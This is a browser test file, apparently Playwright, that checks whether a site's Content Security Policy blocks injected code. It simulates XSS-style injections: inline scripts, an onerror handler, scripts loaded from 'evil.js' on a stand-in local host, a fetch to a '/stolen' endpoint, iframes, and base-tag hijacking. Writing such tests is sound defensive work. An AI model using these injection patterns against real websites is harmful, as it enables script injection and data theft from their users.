import { expect, test } from './fixtures.ts';
import { takeViolations } from './csp-violations.ts';

/** What an injected script could try, and the violation that the browser reports for it. */
const attempts: [attempt: () => void, violation: string][] = [
  [
    function inlineScript() {
      const script = document.createElement('script');
      script.textContent = 'document.title = "ran"';
      document.body.append(script);
    },
    'script-src-elem: inline',
  ],
  [
    function handlerAttribute() {
      document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="document.title = \'ran\'">');
    },
    'script-src-attr: inline',
  ],
  [
    function foreignScript() {
      const script = document.createElement('script');
      script.src = 'http://127.0.0.1:9/evil.js';
      document.body.append(script);
    },
    'script-src-elem: http://127.0.0.1:9/evil.js',
  ],
  [
    function scriptInDataUrl() {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,document.title="ran"';
      document.body.append(script);
    },
    'script-src-elem: data',
  ],
  [
    function foreignRequest() {
      void fetch('http://127.0.0.1:9/stolen').catch(() => undefined);
    },
    'connect-src: http://127.0.0.1:9/stolen',
  ],
  [
    function frame() {
      const frame = document.createElement('iframe');
      frame.src = 'http://127.0.0.1:9/';
      document.body.append(frame);
    },
    'frame-src: http://127.0.0.1:9',
  ],
  [
    function foreignBase() {
      const base = document.createElement('base');
      base.href = 'http://127.0.0.1:9/';
      document.head.append(base);
    },
    'base-uri: http://127.0.0.1:9',
  ],
];

test('the policy blocks injected code, and the test fixture records it', async ({ page }) => {
  await page.goto('/search');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const violations: string[] = [];
  for (const [attempt, violation] of attempts) {
    await page.evaluate(attempt);
    await expect
      .poll(() => violations.push(...takeViolations()) && violations.join('\n'), { message: attempt.name })
      .toContain(violation);
  }
  expect(await page.title()).not.toBe('ran');
});

test('the fixture records violations without scripts as well', async ({ withoutScripts: page, baseURL }) => {
  const response = await page.request.get(`${baseURL}/`);
  await page.route('/', (route) =>
    route.fulfill({ response, body: '<img src="http://127.0.0.1:9/evil.png"><p>Hello' }),
  );
  await page.goto('/');
  await expect.poll(() => takeViolations().join('\n')).toContain('http://127.0.0.1:9/evil.png');
});

test('no other site may frame a page', async ({ request }) => {
  for (const path of ['/', '/search', '/owner', '/no-such-page', '/api/health']) {
    const headers = (await request.get(path)).headers();
    expect(headers['content-security-policy'], path).toContain("frame-ancestors 'none'");
    expect(headers['x-frame-options'], path).toBe('DENY');
  }
});
